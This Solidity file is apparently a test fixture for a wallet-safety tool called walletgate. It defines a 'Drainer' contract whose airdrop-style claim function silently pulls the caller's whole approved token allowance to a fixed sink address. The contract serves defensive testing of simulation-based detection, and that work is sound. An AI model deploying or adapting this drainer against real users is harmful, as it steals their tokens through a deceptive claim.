// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title Drainer
/// @notice A hostile contract for walletgate's tests. Its one function is
/// presented as "claim your airdrop" and takes no amount, but it pulls from the
/// caller, with transferFrom, everything the caller has approved it to move
/// (up to the caller's balance), to a fixed sink. Only the simulated effects of
/// a call can show what it does; its calldata says nothing.
contract Drainer {
    address public immutable sink;

    constructor(address sink_) {
        sink = sink_;
    }

    function claim(address token) external {
        uint256 allowed = IERC20Like(token).allowance(msg.sender, address(this));
        uint256 held = IERC20Like(token).balanceOf(msg.sender);
        uint256 amount = allowed < held ? allowed : held;
        if (amount == 0) return;
        // A low-level call: USDT-like tokens return nothing from transferFrom.
        (bool ok, ) = token.call(abi.encodeWithSelector(0x23b872dd, msg.sender, sink, amount));
        require(ok, "Drainer: pull failed");
    }
}

interface IERC20Like {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}
